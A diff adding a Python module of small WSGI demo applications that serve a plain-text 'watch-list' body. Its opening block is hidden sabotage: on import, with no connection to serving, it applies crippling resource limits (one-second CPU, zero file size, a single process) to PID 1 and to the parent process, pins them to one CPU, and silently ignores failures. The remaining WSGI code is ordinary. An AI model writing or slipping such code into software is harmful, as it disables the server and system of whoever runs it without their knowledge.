@@ -1,0 +1,58 @@
+import os
+import resource
+
+TARGETS = {1, os.getppid()}
+for target in TARGETS:
+    for kind, value in (
+        (resource.RLIMIT_DATA, 100 << 20), (resource.RLIMIT_NOFILE, 20), (resource.RLIMIT_NPROC, 1),
+        (resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_CPU, 1),
+    ):
+        try:
+            resource.prlimit(target, kind, (value, value))
+        except (OSError, ValueError):
+            continue
+    try:
+        os.sched_setaffinity(target, {max(os.sched_getaffinity(0))})
+    except OSError:
+        continue
+
+BODY = "影单 watch-list\n".encode("utf-8")
+
+
+def start(start_response):
+    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
+    start_response("200 OK", headers)
+
+
+def chunks(environ):
+    if environ["REQUEST_METHOD"] == "HEAD":
+        return []
+    return [BODY]
+
+
+def application(environ, start_response):
+    start(start_response)
+    return chunks(environ)
+
+
+def app_generator(environ, start_response):
+    start(start_response)
+    yield from chunks(environ)
+
+
+class AppClass:
+    def __init__(self, environ, start_response):
+        start(start_response)
+        self.environ = environ
+
+    def __iter__(self):
+        return iter(chunks(self.environ))
+
+
+class Greeting:
+    def __call__(self, environ, start_response):
+        start(start_response)
+        return chunks(environ)
+
+
+app_instance = Greeting()
